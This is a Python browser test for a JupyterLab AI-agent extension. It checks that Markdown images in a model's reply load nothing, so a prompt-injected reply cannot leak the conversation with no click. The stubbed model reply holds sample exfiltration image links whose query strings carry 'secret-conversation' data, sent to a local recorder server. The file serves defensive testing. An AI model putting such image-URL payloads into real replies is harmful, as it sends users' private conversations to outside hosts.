"""In real JupyterLab: a reply's Markdown images load nothing (no zero-click exfiltration).

A prompt-injected reply can hold ``![ok](http://host/pixel.png?d=<conversation>)``;
were it rendered as ``<img>``, JupyterLab would fetch it with no click and
the host would receive the conversation. A local server on 127.0.0.1 records
every request: the reply (inline and reference-style images), the session
widget showing it and the static fallback must cause none. A control cell
displays a plain ``<img>`` to the same server, proving the browser does
fetch images in outputs and the recorder sees them.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from .lab import open_notebook, run_all, write_notebook

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


class Recorder(BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_GET(self):  # noqa: N802 - http.server's name
        Recorder.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(PNG)))
        self.end_headers()
        self.wfile.write(PNG)

    def log_message(self, *args):
        pass


def cells(port: int):
    base = f"http://127.0.0.1:{port}"
    reply = (
        f"Summary ready. ![ok]({base}/pixel.png?d=secret-conversation) "
        f"and ![ref][r] and [![nested]({base}/nested.png?d=more)](https://example.org)\n\n"
        f"[r]: {base}/ref.png?d=secret2"
    )
    return [
        ("setup", "%load_ext durable_nb\n%durable new exfil-images", []),
        ("model", f"from durable_nb.notebook import current\ncurrent().agent.model = lambda messages: {reply!r}", []),
        ("ask", "%%durable\nSummarise our conversation", []),
        ("widget", "%durable show", []),
        ("control", f"from IPython.display import HTML\nHTML('<img src=\"{base}/control.png\">')", []),
    ]


def test_markdown_images_in_a_reply_send_no_request(lab, lab_root, page, screenshots):
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    Recorder.seen = []
    try:
        write_notebook(lab_root / "exfil.ipynb", cells(server.server_address[1]))
        open_notebook(page, lab, "exfil.ipynb")
        ran = run_all(page)
        page.wait_for_selector(".durable-reply", timeout=20_000)
        for i in range(page.locator(".jp-Cell").count()):  # every output on screen once (no lazy load left)
            page.locator(".jp-Cell").nth(i).scroll_into_view_if_needed()
            page.wait_for_timeout(300)
        page.wait_for_timeout(1500)
        page.locator(".jp-Cell").nth(2).scroll_into_view_if_needed()
        page.screenshot(path=screenshots / "exfiltration.png")
    finally:
        server.shutdown()
        server.server_close()

    assert "/control.png" in Recorder.seen, f"the control image was not fetched: {Recorder.seen}"
    assert [p for p in Recorder.seen if p != "/control.png"] == []  # the reply's images: no request at all
    reply = next(c for c in ran["cells"] if c["id"] == "ask")
    html = "".join(o.get("data", {}).get("text/html", "") for o in reply["outputs"] if isinstance(o, dict))
    html = html if isinstance(html, str) else "".join(html)
    assert "<img" not in html and html.count('class="durable-remote-image"') == 3
    links = page.locator("a.durable-remote-image")
    assert links.count() == 3 and "pixel.png?d=secret-conversation" in links.first.inner_text()
